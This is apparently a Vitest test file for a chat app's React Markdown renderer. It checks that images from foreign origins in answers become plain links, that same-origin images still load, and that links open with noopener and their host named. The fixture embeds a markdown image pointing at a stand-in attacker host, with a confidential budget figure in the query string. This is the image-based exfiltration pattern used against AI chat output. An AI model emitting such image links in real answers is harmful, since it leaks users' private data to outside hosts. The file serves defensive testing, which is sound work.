import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { Markdown } from "./Markdown";

const leak = "https://evil.example/pixel.png?leak=budget-48250";
const answer = `> The approved budget is $48,250.\n> ![status](${leak})\n\nSee [the terms](https://vendor.example/terms) and ![our logo](/logo.png).`;

/** The renderer of answers in both densities, as a server-side render (the policy reads only window.location). */
const renderers = {
  "the general chat": () => renderToStaticMarkup(createElement(Markdown, null, answer)),
  "the project chat": () =>
    renderToStaticMarkup(
      createElement(Markdown, { density: "compact", citations: { sources: [1], render: () => null }, children: answer }),
    ),
};

beforeAll(() => vi.stubGlobal("window", { location: { origin: "https://quorum.example" } }));
afterAll(() => vi.unstubAllGlobals());

describe.each(Object.entries(renderers))("answers in %s", (_, render) => {
  it("show a foreign image as a link with its full URL, not an image", () => {
    const html = render();
    expect(html).not.toMatch(/<img[^>]*evil\.example/);
    expect(html).toMatch(/<a href="https:\/\/evil\.example\/pixel\.png\?leak=budget-48250"[^>]*rel="noopener noreferrer"/);
    expect(html).toContain(`status: </span>${leak.replace("&", "&amp;")}`);
  });

  it("still show images from our own origin", () => {
    expect(render()).toMatch(/<img src="https:\/\/quorum\.example\/logo\.png" alt="our logo"/);
  });

  it("open links in a new tab without opener or referrer, naming their host", () => {
    const html = render();
    expect(html).toMatch(
      /<a href="https:\/\/vendor\.example\/terms" target="_blank" rel="noopener noreferrer"[^>]*>the terms<span[^>]*>\(vendor\.example\)<\/span><\/a>/,
    );
  });
});
